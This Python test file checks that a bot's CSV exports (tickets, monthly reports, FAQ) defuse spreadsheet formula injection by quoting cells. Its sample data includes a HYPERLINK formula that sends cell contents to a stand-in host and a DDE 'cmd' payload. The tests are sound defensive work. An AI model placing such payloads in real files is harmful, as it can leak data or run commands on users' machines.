"""CSV cells a spreadsheet would run as formulas are written as text, in every CSV pakn writes:
the ticket export, the report's CSV, the FAQ export (which still imports back unchanged) and the
calendar list."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import UTC, datetime

import pytest

from bot.core.statistics.figures import compute
from bot.core.statistics.periods import Period, PeriodKind
from bot.core.ticket_export import write_records
from bot.reports.ticket_rows import write_csv
from faq.csv_cells import neutralise, restore
from faq.entries import FaqEntry
from faq.loader import load_faq, write_faq
from tests.reports.samples import VN, local, records

ATTACKS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"Xem\")", "+84912345678", "-2+3",
           "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", ATTACKS)
def test_a_formula_becomes_text_and_comes_back(value):
    assert neutralise(value) == "'" + value
    assert restore(neutralise(value)) == value


@pytest.mark.parametrize("value", ["Thủ tục", "2026-03-10T09:00:00+07:00", "", "'quoted", 3])
def test_ordinary_cells_are_left_alone(value):
    assert neutralise(value) == value
    if isinstance(value, str):
        assert restore(value) == value


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def test_the_ticket_export_writes_no_formula():
    record = replace(records()[0], field="=cmd|'/c calc'!A1", assignee="@officer")
    out = io.StringIO()
    write_records([record], out, datetime(2026, 4, 1, tzinfo=UTC), VN)
    written = cells(out.getvalue())
    assert "'=cmd|'/c calc'!A1" in written and "'@officer" in written
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in written)


def test_the_report_csv_writes_no_formula(tmp_path):
    crafted = [replace(r, field="-1+1") for r in records()]
    stats = compute(crafted, Period(PeriodKind.MONTH, 2026, 3), VN, local("2026-04-10 12:00"))
    write_csv(stats, VN, tmp_path / "march.csv")
    written = cells((tmp_path / "march.csv").read_text(encoding="utf-8-sig"))
    assert "'-1+1" in written
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in written)


def test_the_faq_export_writes_no_formula_and_imports_back_unchanged(tmp_path):
    entry = FaqEntry(id="hotline", question="=Số đường dây nóng là gì?",
                     variants=("+hotline", "số nóng"), answer="-Gọi 0912 345 678.",
                     category="@lien_he")
    write_faq([entry], tmp_path / "faq.csv")
    written = cells((tmp_path / "faq.csv").read_text(encoding="utf-8"))
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in written)
    assert load_faq(tmp_path / "faq.csv") == [entry]
